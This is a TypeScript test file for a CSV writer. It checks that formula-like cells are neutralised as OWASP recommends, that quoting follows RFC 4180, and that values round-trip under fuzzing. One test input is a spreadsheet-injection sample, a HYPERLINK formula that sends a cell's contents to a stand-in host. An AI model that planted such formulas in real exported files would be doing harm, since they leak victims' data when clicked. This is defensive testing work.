import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvWriter, unneutralise } from '../../src/io/csv.js';

const columns = [{ key: 'id' }, { key: 'text' }, { key: 'score', digits: 3 }, { key: 'count' }];
const write = (records: Array<{ id: string; text: string; score: number; count: number }>) => {
  const csv = csvWriter(columns);
  return csv.header() + csv.rows(records);
};

describe('CSV writing', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP)', () => {
    const csv = write([
      { id: '=HYPERLINK("http://x.test/?"&A1,"click")', text: '+1+1', score: -2, count: -1 },
      { id: '@SUM(A1)', text: '\tcmd', score: 0.5, count: 3 },
      { id: '-2+3', text: '\rx', score: 1, count: 0 },
    ]);
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.id)).toEqual([`'=HYPERLINK("http://x.test/?"&A1,"click")`, `'@SUM(A1)`, `'-2+3`]);
    expect(rows.map((r) => r.text)).toEqual([`'+1+1`, `'\tcmd`, `'\rx`]);
    // Numbers are numbers: a negative score or count is not a formula and keeps its form.
    expect(rows.map((r) => [r.score, r.count])).toEqual([['-2.000', '-1'], ['0.500', '3'], ['1.000', '0']]);
  });

  it('keeps RFC 4180: CRLF records, quotes only where needed', () => {
    expect(write([{ id: 'c-a-b', text: 'a, "b"', score: 0.8, count: 1 }])).toBe('id,text,score,count\r\nc-a-b,"a, ""b""",0.800,1\r\n');
  });

  it('quotes a lone line feed or carriage return, so the record stays one record', () => {
    const csv = write([{ id: 'a\nb', text: 'c\rd', score: 0, count: 0 }]);
    expect(parse(csv, { columns: true })).toEqual([{ id: 'a\nb', text: 'c\rd', score: '0.000', count: '0' }]);
  });

  it('reads back as the values written, the formula guard taken off (fuzz)', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', '\t', '=', '+', '-', '@', "'", ' ', '\uFF1D') }));
    const record = fc.record({ id: text, text, score: fc.double({ min: -1e6, max: 1e6, noNaN: true }), count: fc.integer() });
    fc.assert(
      fc.property(fc.array(record, { maxLength: 5 }), (records) => {
        const rows = parse(write(records), { columns: true, relax_column_count: false }) as Array<Record<string, string>>;
        expect(rows).toHaveLength(records.length);
        rows.forEach((row, i) => {
          const r = records[i]!;
          // A file holds UTF-8, where a lone surrogate can only be U+FFFD.
          expect(unneutralise(row.id!)).toBe(Buffer.from(r.id).toString());
          expect(unneutralise(row.text!)).toBe(Buffer.from(r.text).toString());
          expect(row.score).toBe(r.score.toFixed(3));
          expect(Number(row.count)).toBe(r.count);
          for (const cell of [row.id!, row.text!]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        });
      }),
      { numRuns: 300 },
    );
  });
});
